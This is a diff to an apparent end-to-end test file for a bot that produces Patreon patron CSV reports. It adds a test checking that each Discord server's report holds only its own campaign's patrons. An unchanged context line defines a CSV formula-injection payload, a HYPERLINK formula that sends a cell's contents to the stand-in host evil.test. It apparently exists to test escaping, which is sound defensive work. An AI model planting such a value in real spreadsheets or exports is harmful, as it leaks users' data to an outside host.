@@ -13,6 +13,9 @@ from fakes.discord import InteractionRecord
 from fakes.world import SEED, FakeWorld
 from tests.e2e.polling import wait_for
 from tests.e2e.test_admin import admin
+from tests.e2e.test_campaign_two_servers import EVE as EVE_B
+from tests.e2e.test_campaign_two_servers import OTHER as SERVER_B
+from tests.e2e.test_campaign_two_servers import two_campaigns  # noqa: F401  (the fixture)
 from tests.e2e.test_trust_servers import EVE, OTHER, world_with_other_server
 
 EVIL_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
@@ -165,3 +168,13 @@ async def test_the_weekly_post_comes_once_a_week_even_across_restarts(world):
 async def test_no_weekly_post_unless_the_server_asked_for_it(world):
     await restart_and_look(world)
     assert weekly_posts(world) == []
+
+
+async def test_each_server_s_report_holds_only_its_own_campaign_s_patrons(two_campaigns):  # noqa: F811
+    world = two_campaigns
+    _, _, data_b = await run_report(world, user=EVE_B, guild=SERVER_B)
+    _, _, data_a = await run_report(world)
+    assert data_a is not None and data_b is not None
+    assert {row["patreon_user_id"] for row in csv_rows(data_b)} == {"p-ben"}
+    assert "p-ben" not in {row["patreon_user_id"] for row in csv_rows(data_a)}
+    assert {"p-alice", "p-bob"} <= {row["patreon_user_id"] for row in csv_rows(data_a)}
